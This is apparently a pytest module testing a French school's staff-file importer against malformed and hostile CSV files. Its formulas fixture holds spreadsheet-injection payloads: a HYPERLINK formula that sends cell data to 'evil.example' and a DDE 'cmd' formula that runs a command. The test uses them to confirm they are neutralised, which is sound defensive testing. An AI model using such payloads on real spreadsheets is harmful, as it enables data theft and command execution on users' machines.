"""Broken and hostile staff files: each gives a message naming file, line and column, and
nothing is written.

The corpus: wrong encodings, a missing mandatory column, a header-only file,
mixed separators, cells that spreadsheets take for formulas, binary
garbage, files of the wrong kind, and a 100,000-line file read as a stream.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import pytest

from farm.staff import StaffFileError, StaffKind, check_staff_file, staff_records, write_report
from farm.staff.problems import Severity
from tests.staff_files import (
    LYCEE,
    STAFF,
    STAFF_HEADER,
    TEACHERS,
    TEACHERS_HEADER,
    csv_text,
    write_csv,
)

TODAY = date(2026, 9, 1)


def listing(folder: Path) -> dict[str, tuple[int, int]]:
    return {
        str(p.relative_to(folder)): (p.stat().st_size, p.stat().st_mtime_ns)
        for p in sorted(folder.rglob("*"))
    }


@contextmanager
def nothing_written(folder: Path) -> Iterator[None]:
    before = listing(folder)
    yield
    assert listing(folder) == before


def refused(path: Path, kind: StaffKind = StaffKind.TEACHERS, **options: object) -> StaffFileError:
    with nothing_written(path.parent), pytest.raises(StaffFileError) as caught:
        check_staff_file(path, kind, tenant=LYCEE, today=TODAY, **options)  # type: ignore[arg-type]
    assert str(caught.value).startswith(str(path))
    return caught.value


# -- wrong encodings ---------------------------------------------------------------------------


def test_utf16_without_its_mark_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(csv_text(TEACHERS_HEADER, TEACHERS).encode("utf-16-le"))

    error = refused(path)

    assert "UTF-16 text without a byte-order mark" in error.reason
    assert error.line == 1


def test_a_file_of_two_encodings_names_each_line_that_differs(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    utf8 = csv_text(TEACHERS_HEADER, TEACHERS).encode("utf-8")
    cp1252 = csv_text(None, [("M", "LEFÈVRE", "Zoé", "Histoire")]).encode("cp1252")
    path.write_bytes(utf8 + cp1252 + "M;NOËL;Anaïs;Arts\r\n".encode())

    with nothing_written(tmp_path):
        check = check_staff_file(path, StaffKind.TEACHERS, tenant=LYCEE, today=TODAY)

    assert check.encoding == "UTF-8"
    problem = check.problems[0]
    assert [(p.line, p.column, p.header) for p in check.problems] == [(7, 2, "Nom enseignant")]
    assert problem.reason.startswith(
        "not UTF-8 like the rest of the file (byte 0xC8 at character 6)"
    )
    assert problem.value == "LEFÈVRE"  # Windows-1252, read as such to show it
    assert problem.where(path) == f"{path}:7:2"
    assert (check.accepted, check.conflicts) == (6, 1)


def test_a_byte_windows_1252_has_no_character_for_is_named(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(
        csv_text(TEACHERS_HEADER, TEACHERS[:2]).encode("cp1252") + b"M;DUPONT\x81;Jean;Arts\r\n"
    )

    check = check_staff_file(path, StaffKind.TEACHERS, tenant=LYCEE, today=TODAY)

    assert check.encoding == "Windows-1252"
    assert [p.line for p in check.problems] == [4]
    assert "a byte that is no character in Windows-1252 (byte 0x81" in check.problems[0].reason


# -- columns and kinds ---------------------------------------------------------------------------


def test_a_missing_mandatory_column_names_it_and_the_header_line(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "t.csv", TEACHERS_HEADER[:3], [row[:3] for row in TEACHERS], encoding="cp1252"
    )

    error = refused(path)

    assert error.line == 1
    assert "no column for subject, mandatory in a teachers file" in error.reason


def test_a_header_only_file_is_refused(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", TEACHERS_HEADER, [], encoding="utf-8-sig")

    error = refused(path)

    assert str(error) == f"{path}:1: the header is the only line: no row to import"


@pytest.mark.parametrize(
    ("header", "rows", "kind", "message"),
    [
        (TEACHERS_HEADER, TEACHERS, StaffKind.STAFF, "this is a teachers file, not a staff file"),
        (STAFF_HEADER, STAFF, StaffKind.TEACHERS, "this is a staff file, not a teachers file"),
        (
            ("Nom élève", "Prénom élève", "Classe"),
            [("DUPONT", "Léa", "2NDE1")],
            StaffKind.TEACHERS,
            "column 'Nom élève' shows a students file",
        ),
    ],
)
def test_a_file_of_the_wrong_kind_is_named(
    tmp_path: Path,
    header: tuple[str, ...],
    rows: list[tuple[str, ...]],
    kind: StaffKind,
    message: str,
) -> None:
    path = write_csv(tmp_path / "f.csv", header, rows, encoding="utf-16")

    error = refused(path, kind)

    assert message in error.reason
    assert error.line == 1


# -- separators ----------------------------------------------------------------------------------


def test_a_file_of_commas_is_refused_at_line_one_with_the_option_to_give(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", TEACHERS_HEADER, TEACHERS, separator=",")

    error = refused(path)

    assert error.line == 1
    assert error.hint == "give --separator ','"


def test_rows_of_another_separator_are_conflicts_named_by_line(tmp_path: Path) -> None:
    text = csv_text(TEACHERS_HEADER, TEACHERS) + csv_text(None, [TEACHERS[0]], separator="\t")
    path = tmp_path / "t.csv"
    path.write_text(text, encoding="utf-8")

    check = check_staff_file(path, StaffKind.TEACHERS, tenant=LYCEE, today=TODAY)

    assert [(p.line, p.reason) for p in check.problems] == [
        (7, "cells separated by TAB, the file's separator is ';': the file mixes separators")
    ]


# -- formulas ------------------------------------------------------------------------------------


FORMULAS = (
    ("M", '=HYPERLINK("http://evil.example/?"&A1)', "Jean", "Maths", "", "", "", "", ""),
    ("M", "+33612345678", "@Anne", "-Arts", "", "", "", "", ""),
    ("M", "DUPONT", "\tTab", "\rReturn", "", "", "", "", ""),
    ("M", "=1+1", "Cmd", "Maths", "=cmd|'/c calc'!A1", "=2+2", "", "", ""),
)


def test_formula_cells_are_kept_as_data_and_neutralised_in_the_report(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", TEACHERS_HEADER, FORMULAS)

    check = check_staff_file(path, StaffKind.TEACHERS, tenant=LYCEE, today=TODAY)
    records = staff_records(StaffKind.TEACHERS, check.rows, [LYCEE])
    people = records.snapshots[LYCEE].people

    # Kept as data: the names are what the file says, a formula nobody evaluates.
    assert {p.lastname for p in people} == {'=HYPERLINK("http://evil.example/?"&A1)', "DUPONT",
                                            "+33612345678"}  # fmt: skip
    assert [(p.line, p.header, p.reason) for p in check.problems] == [
        (5, "Nom utilisateur enseignant", "a login has only letters a-z, digits and - . _ @ "
                                          "(no spaces or accents)"),
    ]  # fmt: skip

    report = write_report(tmp_path / "out" / "report.csv", StaffKind.TEACHERS, records.report)
    text = report.read_text(encoding="utf-8-sig")
    for line in text.splitlines()[1:]:
        for cell in line.split(";"):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK" in text
    assert "'@Anne" in text


# -- binary garbage ------------------------------------------------------------------------------


def test_random_bytes_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "garbage.csv"
    path.write_bytes(random.Random(16).randbytes(50_000))

    error = refused(path)

    assert "binary" in error.reason or "NUL byte" in error.reason


def test_a_spreadsheet_saved_as_xlsx_is_named(tmp_path: Path) -> None:
    path = tmp_path / "enseignants.csv"
    path.write_bytes(b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(range(256)) * 4)

    error = refused(path)

    assert "ZIP archive (an .xlsx or .ods spreadsheet?)" in error.reason
    assert error.hint is not None


def test_garbage_appended_to_a_text_file_is_refused_at_its_line(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    text = csv_text(TEACHERS_HEADER, TEACHERS * 2000).encode("utf-8")
    path.write_bytes(text + b"\x00\x01\x02garbage\x00\n")

    error = refused(path)

    assert (error.line, error.column) == (10_002, 1)
    assert "NUL byte" in error.reason


# -- size ----------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_100000_line_file_is_read_as_a_stream_and_its_bad_lines_named(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as out:
        out.write(csv_text(TEACHERS_HEADER, []).encode())
        for number in range(2, 100_002):
            if number == 70_001:
                out.write("M;NOËL;Zoé;Arts\r\n".encode("cp1252"))
            elif number == 90_001:
                out.write(b"M,SEP,Virgule,Arts\r\n")
            else:
                out.write(f"Mme;NOM{number};Prénom;Mathématiques;;;;;\r\n".encode())

    with nothing_written(tmp_path):
        check = check_staff_file(
            path, StaffKind.TEACHERS, tenant=LYCEE, today=TODAY, keep_rows=False
        )

    assert check.rows == ()
    assert (check.read, check.accepted, check.conflicts) == (100_000, 99_998, 2)
    assert [(p.line, p.severity) for p in check.problems] == [
        (70_001, Severity.CONFLICT),
        (90_001, Severity.CONFLICT),
    ]
    assert "mixes encodings" in check.problems[0].reason
    assert "mixes separators" in check.problems[1].reason
